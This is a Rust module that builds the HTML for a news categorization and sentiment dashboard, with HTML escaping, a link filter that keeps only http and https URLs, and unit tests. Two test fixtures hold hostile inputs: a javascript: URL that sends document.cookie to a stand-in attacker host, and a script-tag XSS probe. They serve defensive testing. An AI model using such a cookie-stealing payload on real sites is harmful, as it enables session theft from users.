//! Server-side HTML for the dashboard page.

use nd_core::{NewsDocument, Result, UNKNOWN_CATEGORY};
use std::collections::BTreeSet;
use url::Url;

use crate::charts::{bar_chart, donut_chart, line_chart, sentiment_color};
use crate::filter::{
    clean, ActiveFilter, DashboardQuery, DatedRecord, FilterOptions, Summary,
    NO_ARTICLES_MESSAGE, NO_FILTERED_DATA_MESSAGE, SUBMITTED_PARAM,
};

const TITLE: &str = "News Categorization & Sentiment Dashboard";
const ICON_URL: &str = "https://upload.wikimedia.org/wikipedia/commons/6/6a/Newspaper_icon.png";

pub fn escape_html(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => escaped.push_str("&amp;"),
            '<' => escaped.push_str("&lt;"),
            '>' => escaped.push_str("&gt;"),
            '"' => escaped.push_str("&quot;"),
            '\'' => escaped.push_str("&#39;"),
            _ => escaped.push(c),
        }
    }
    escaped
}

/// Everything the page shows for one request.
#[derive(Debug, Clone, Default)]
pub struct DashboardView {
    pub errors: Vec<String>,
    pub options: FilterOptions,
    pub filter: Option<ActiveFilter>,
    pub summary: Summary,
    pub articles: Vec<DatedRecord>,
    pub can_refresh: bool,
}

impl DashboardView {
    pub fn build(loaded: Result<NewsDocument>, query: &DashboardQuery) -> Self {
        let mut view = Self::default();
        let document = match loaded {
            Ok(document) => document,
            Err(e) => {
                view.errors.push(format!("Error loading categorized news: {}", e));
                NewsDocument::new(&[])
            }
        };
        let records = match clean(&document) {
            Ok(records) => records,
            Err(message) => {
                view.errors.push(message.to_string());
                return view;
            }
        };

        view.options = FilterOptions::from_records(&records);
        let filter = ActiveFilter::resolve(query, &view.options);
        let matched = filter.apply(&records);
        view.summary = Summary::from_records(&matched);
        view.articles = matched.into_iter().cloned().collect();
        view.filter = Some(filter);
        view
    }

    pub fn with_refresh(mut self, can_refresh: bool) -> Self {
        self.can_refresh = can_refresh;
        self
    }
}

fn multiselect(out: &mut String, name: &str, label: &str, options: &[String], selected: &BTreeSet<String>) {
    out.push_str(&format!("<label for=\"{n}\">{l}</label>\n<select id=\"{n}\" name=\"{n}\" multiple size=\"{s}\">\n",
        n = name, l = label, s = options.len().clamp(2, 8)));
    for option in options {
        let mark = if selected.contains(option) { " selected" } else { "" };
        out.push_str(&format!(
            "<option value=\"{v}\"{m}>{v}</option>\n",
            v = escape_html(option),
            m = mark
        ));
    }
    out.push_str("</select>\n");
}

fn render_sidebar(out: &mut String, view: &DashboardView, filter: &ActiveFilter) {
    let options = &view.options;
    out.push_str("<aside class=\"sidebar\">\n");
    out.push_str(&format!("<img src=\"{}\" width=\"80\" alt=\"\"/>\n<h2>Filters</h2>\n", ICON_URL));
    out.push_str("<form method=\"get\" action=\"/\">\n");
    out.push_str(&format!("<input type=\"hidden\" name=\"{}\" value=\"1\"/>\n", SUBMITTED_PARAM));
    multiselect(out, "country", "Country", &options.countries, &filter.countries);
    multiselect(out, "category", "Category", &options.categories, &filter.categories);
    multiselect(out, "sentiment", "Sentiment", &options.sentiments, &filter.sentiments);

    let date = |d: Option<chrono::NaiveDate>| d.map(|d| d.format("%Y-%m-%d").to_string()).unwrap_or_default();
    out.push_str("<label>Published Date Range</label>\n");
    for (name, value) in [("start", filter.start), ("end", filter.end)] {
        out.push_str(&format!(
            "<input type=\"date\" name=\"{}\" value=\"{}\" min=\"{}\" max=\"{}\"/>\n",
            name,
            date(value),
            date(options.min_date),
            date(options.max_date)
        ));
    }
    out.push_str("<button type=\"submit\">Apply</button> <a href=\"/\">Reset</a>\n</form>\n");
    if view.can_refresh {
        out.push_str(
            "<button onclick=\"this.disabled=true;fetch('/api/refresh',{method:'POST'}).then(()=>location.reload())\">Refresh news</button>\n",
        );
    }
    out.push_str("<hr/>\n<small>Powered by NewsAPI, ML Categorizer &amp; Sentiment Model</small>\n</aside>\n");
}

/// Only web links are clickable; anything else (`javascript:`, `data:`) is dropped.
fn article_link(raw: &str) -> Option<Url> {
    Url::parse(raw.trim())
        .ok()
        .filter(|url| matches!(url.scheme(), "http" | "https"))
}

fn render_card(out: &mut String, article: &DatedRecord) {
    let record = &article.record;
    let category = record.predicted_category.as_deref().unwrap_or(UNKNOWN_CATEGORY);
    let headline = match record.headline() {
        Some(title) => title.to_string(),
        None => format!("[No Headline] ({})", category),
    };
    let sentiment = record.sentiment.as_deref().unwrap_or_default();

    out.push_str("<div class=\"card\">\n");
    out.push_str(&format!("<h4>{}</h4>\n", escape_html(&headline)));
    out.push_str(&format!(
        "<div class=\"meta\"><b>Published:</b> {} &nbsp;|&nbsp; <b>Category:</b> <span style=\"color:#0072C6\">{}</span> \
         &nbsp;|&nbsp; <b>Sentiment:</b> <span style=\"color:{};font-weight:bold\">{}</span> &nbsp;|&nbsp; <b>Source:</b> {}</div>\n",
        article.published.format("%Y-%m-%d %H:%M"),
        escape_html(category),
        sentiment_color(sentiment),
        escape_html(sentiment),
        escape_html(record.source.as_deref().unwrap_or_default())
    ));
    if let Some(description) = record.description.as_deref() {
        out.push_str(&format!("<div class=\"description\">{}</div>\n", escape_html(description)));
    }
    if let Some(url) = record.url.as_deref().and_then(article_link) {
        out.push_str(&format!(
            "<a href=\"{}\" target=\"_blank\" rel=\"noopener\">Read Full Article</a>\n",
            escape_html(url.as_str())
        ));
    }
    out.push_str("</div>\n");
}

pub fn render_dashboard(view: &DashboardView) -> String {
    let mut out = String::new();
    out.push_str("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\"/>\n");
    out.push_str(&format!("<title>{}</title>\n", escape_html(TITLE)));
    out.push_str(STYLE);
    out.push_str("</head>\n<body>\n");

    if let Some(filter) = &view.filter {
        render_sidebar(&mut out, view, filter);
    }

    out.push_str("<main>\n");
    out.push_str(&format!(
        "<header><img src=\"{}\" width=\"60\" alt=\"\"/><div><h1>🗞 {}</h1>\
         <span>Live news, categorized and analyzed for sentiment.<br/>\
         Use the filters to explore by country, category, sentiment, and date.</span></div></header>\n<hr/>\n",
        ICON_URL,
        escape_html(TITLE)
    ));

    for error in &view.errors {
        out.push_str(&format!("<div class=\"alert error\">{}</div>\n", escape_html(error)));
    }
    if view.filter.is_none() {
        out.push_str("</main>\n</body>\n</html>\n");
        return out;
    }

    let summary = &view.summary;
    out.push_str("<section class=\"kpis\">\n");
    for (label, value) in [
        ("📰 Total Articles", summary.total),
        ("📂 Categories", summary.distinct_categories()),
        ("💬 Sentiments", summary.distinct_sentiments()),
    ] {
        out.push_str(&format!(
            "<div class=\"kpi\"><div class=\"label\">{}</div><div class=\"value\">{}</div></div>\n",
            label, value
        ));
    }
    out.push_str("</section>\n");

    if view.articles.is_empty() {
        out.push_str(&format!("<div class=\"alert info\">{}</div>\n", NO_FILTERED_DATA_MESSAGE));
    } else {
        out.push_str("<section class=\"charts\">\n");
        out.push_str(&format!("<div class=\"chart wide\">{}</div>\n", bar_chart(&summary.categories)));
        out.push_str(&format!("<div class=\"chart\">{}</div>\n", donut_chart(&summary.sentiments)));
        out.push_str("</section>\n<h4>Articles Over Time</h4>\n");
        out.push_str(&format!("<div class=\"chart\">{}</div>\n", line_chart(&summary.per_date)));
    }

    out.push_str("<hr/>\n<h3>📰 Articles</h3>\n");
    if view.articles.is_empty() {
        out.push_str(&format!("<div class=\"alert warning\">{}</div>\n", NO_ARTICLES_MESSAGE));
    }
    for article in &view.articles {
        render_card(&mut out, article);
    }
    out.push_str("</main>\n</body>\n</html>\n");
    out
}

const STYLE: &str = r#"<style>
body { display: flex; margin: 0; font-family: sans-serif; color: #222; }
.sidebar { width: 260px; padding: 16px; background: #f0f2f6; min-height: 100vh; }
.sidebar select, .sidebar input { width: 100%; margin-bottom: 12px; }
.sidebar label { display: block; font-weight: bold; margin: 6px 0 4px; }
main { flex: 1; padding: 16px 32px; }
header { display: flex; align-items: center; gap: 20px; }
header h1 { margin-bottom: 0; }
header span { font-size: 18px; color: #444; }
.kpis { display: flex; gap: 16px; }
.kpi { flex: 1; }
.kpi .label { font-size: 14px; color: #555; }
.kpi .value { font-size: 32px; }
.charts { display: flex; gap: 16px; }
.chart { flex: 1; }
.chart.wide { flex: 2; }
.alert { padding: 12px 16px; border-radius: 6px; margin: 12px 0; }
.alert.error { background: #ffe3e3; color: #a61b1b; }
.alert.info { background: #e3f0ff; color: #1b4fa6; }
.alert.warning { background: #fff6d6; color: #8a6d00; }
.card { background: #f8f9fa; padding: 18px 18px 8px 18px; margin-bottom: 18px; border-radius: 10px; box-shadow: 0 2px 8px #eee; }
.card h4 { margin-bottom: 0; color: #222; }
.card .meta { font-size: 13px; color: #888; margin-bottom: 6px; }
.card .description { font-size: 15px; color: #333; margin-bottom: 8px; }
.card a { color: #0056b3; font-weight: bold; }
</style>
"#;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::filter::test_support::{document, record};
    use crate::filter::NO_DATA_MESSAGE;
    use nd_core::Error;

    #[test]
    fn test_escape_html() {
        assert_eq!(
            escape_html(r#"<a href="x">Tom & Jerry's</a>"#),
            "&lt;a href=&quot;x&quot;&gt;Tom &amp; Jerry&#39;s&lt;/a&gt;"
        );
    }

    #[test]
    fn test_full_dashboard() {
        let view = DashboardView::build(Ok(document()), &DashboardQuery::default());
        assert_eq!(view.articles.len(), 3);
        let html = render_dashboard(&view);
        assert!(html.contains("Articles by Category"));
        assert!(html.contains("Sentiment Distribution"));
        assert!(html.contains("Articles Over Time"));
        assert!(html.contains("<option value=\"us\" selected>us</option>"));
        assert!(html.contains("value=\"2024-05-01\""));
        assert_eq!(html.matches("class=\"card\"").count(), 3);
        assert!(html.contains("2024-05-03 23:59"));
        assert!(!html.contains("Refresh news"));
    }

    #[test]
    fn test_filtered_to_nothing() {
        let query = DashboardQuery::parse(Some("country=fr"));
        let view = DashboardView::build(Ok(document()), &query);
        let html = render_dashboard(&view);
        assert!(html.contains(NO_FILTERED_DATA_MESSAGE));
        assert!(html.contains(NO_ARTICLES_MESSAGE));
        assert!(!html.contains("<svg"));
        assert!(html.contains("<option value=\"us\">us</option>"));
    }

    #[test]
    fn test_load_error_is_shown() {
        let view = DashboardView::build(
            Err(Error::Storage("categorized_news.json not found".to_string())),
            &DashboardQuery::default(),
        );
        assert_eq!(view.errors.len(), 2);
        let html = render_dashboard(&view);
        assert!(html.contains("Error loading categorized news"));
        assert!(html.contains(&escape_html(NO_DATA_MESSAGE)));
        assert!(!html.contains("class=\"kpis\""));
    }

    #[test]
    fn test_card_escapes_and_falls_back() {
        let mut doc = document();
        doc.news = vec![record("us", "TECH", "positive", "2024-05-01T10:00:00Z")];
        doc.news[0].title = Some("  ".to_string());
        doc.news[0].description = Some("<script>alert(1)</script>".to_string());
        doc.news[0].url = Some("https://example.com/?a=1&b=2".to_string());

        let html = render_dashboard(&DashboardView::build(Ok(doc), &DashboardQuery::default()));
        assert!(html.contains("[No Headline] (TECH)"));
        assert!(html.contains("&lt;script&gt;"));
        assert!(!html.contains("<script>alert"));
        assert!(html.contains("https://example.com/?a=1&amp;b=2"));
        assert!(html.contains("color:#2ecc40"));
    }

    #[test]
    fn test_only_web_links_are_rendered() {
        let mut doc = document();
        doc.news = vec![
            record("us", "TECH", "Positive", "2024-05-01T10:00:00Z"),
            record("us", "TECH", "Positive", "2024-05-01T11:00:00Z"),
            record("us", "TECH", "Positive", "2024-05-01T12:00:00Z"),
        ];
        doc.news[0].url = Some("javascript:fetch('//evil.example/'+document.cookie)".to_string());
        doc.news[1].url = Some("data:text/html,<b>hi</b>".to_string());
        doc.news[2].url = Some("http://example.com/story".to_string());

        let html = render_dashboard(&DashboardView::build(Ok(doc), &DashboardQuery::default()));
        assert!(!html.contains("href=\"javascript:"));
        assert!(!html.contains("href=\"data:"));
        assert_eq!(html.matches("Read Full Article").count(), 1);
        assert!(html.contains("href=\"http://example.com/story\""));
    }

    #[test]
    fn test_form_marks_submission() {
        let view = DashboardView::build(Ok(document()), &DashboardQuery::default());
        let html = render_dashboard(&view);
        assert!(html.contains(&format!("name=\"{}\" value=\"1\"", SUBMITTED_PARAM)));
    }

    #[test]
    fn test_refresh_button() {
        let view = DashboardView::build(Ok(document()), &DashboardQuery::default()).with_refresh(true);
        assert!(render_dashboard(&view).contains("Refresh news"));
    }
}
